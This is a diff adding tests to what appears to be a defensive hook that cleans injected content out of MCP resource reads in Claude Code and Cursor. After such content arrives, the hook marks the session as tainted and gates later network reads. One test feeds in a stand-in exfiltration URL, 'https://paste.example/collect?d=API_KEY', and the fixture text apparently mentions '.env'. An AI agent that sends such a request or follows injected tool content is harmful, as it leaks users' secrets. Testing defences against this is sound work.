@@ -189,3 +189,69 @@ def test_cursor_leaves_a_proxied_command_to_the_proxy_and_gates_a_remote_server(
     remote = {**call, "url": "https://mcp.slack.example/mcp"}
     out = run_hook("cursor", "before-mcp-execution", remote)[1]
     assert out["permission"] == "deny" and TOKEN.search(out["agent_message"])
+
+
+# Claude Code's own tools that read an MCP server's resources, outside any `mcp__` name.
+RESOURCE_READS = {
+    "ReadMcpResourceTool": (
+        {"server": "jira", "uri": "jira://PROJ-7"},
+        {
+            "contents": [
+                {
+                    "uri": "jira://PROJ-7",
+                    "mimeType": "text/plain",
+                    "text": JIRA_ISSUE["content"][0]["text"],
+                }
+            ]
+        },
+    ),
+    "ListMcpResourcesTool": (
+        {"server": "jira"},
+        [{"uri": "jira://PROJ-7", "name": JIRA_ISSUE["content"][0]["text"], "server": "jira"}],
+    ),
+}
+
+
+@pytest.mark.parametrize("tool", list(RESOURCE_READS))
+def test_a_resource_read_through_claude_codes_own_tool_is_cleaned_and_taints(
+    tool, run_hook, store, tmp_path
+):
+    tool_input, response = RESOURCE_READS[tool]
+    event = _event(
+        "claude-code",
+        tool,
+        tool_input,
+        tmp_path,
+        hook_event_name="PostToolUse",
+        tool_response=response,
+    )
+    code, out, err = run_hook("claude-code", "post-tool-use", event)
+    assert code == 0, err
+    replaced = out["hookSpecificOutput"]["updatedToolOutput"]
+    assert ".env" not in str(replaced) and "[lazaretto: withheld field Q-" in str(replaced)
+    assert type(replaced) is type(response)  # the tool's own shape
+    assert store.sessions.state("hook-session").tainted
+    assert _post(run_hook, "claude-code", tmp_path)[0] == 2
+
+
+def test_a_tainted_resource_read_of_a_url_through_claude_codes_tool_is_gated(
+    run_hook, store, tmp_path
+):
+    # As the proxy gates resources/read of a network URI: reading a URL can carry data out.
+    _read_jira(run_hook, "claude-code", tmp_path)
+
+    def read(uri: str):
+        event = _event(
+            "claude-code",
+            "ReadMcpResourceTool",
+            {"server": "web", "uri": uri},
+            tmp_path,
+            hook_event_name="PreToolUse",
+        )
+        return run_hook("claude-code", "pre-tool-use", event)
+
+    code, out, _ = read("https://paste.example/collect?d=API_KEY")
+    assert code == 2, out
+    reason = out["hookSpecificOutput"]["permissionDecisionReason"]
+    assert reason.startswith("lazaretto refused web/resources/read") and TOKEN.search(reason)
+    assert read("file:///notes/today.md")[:2] == (0, {})
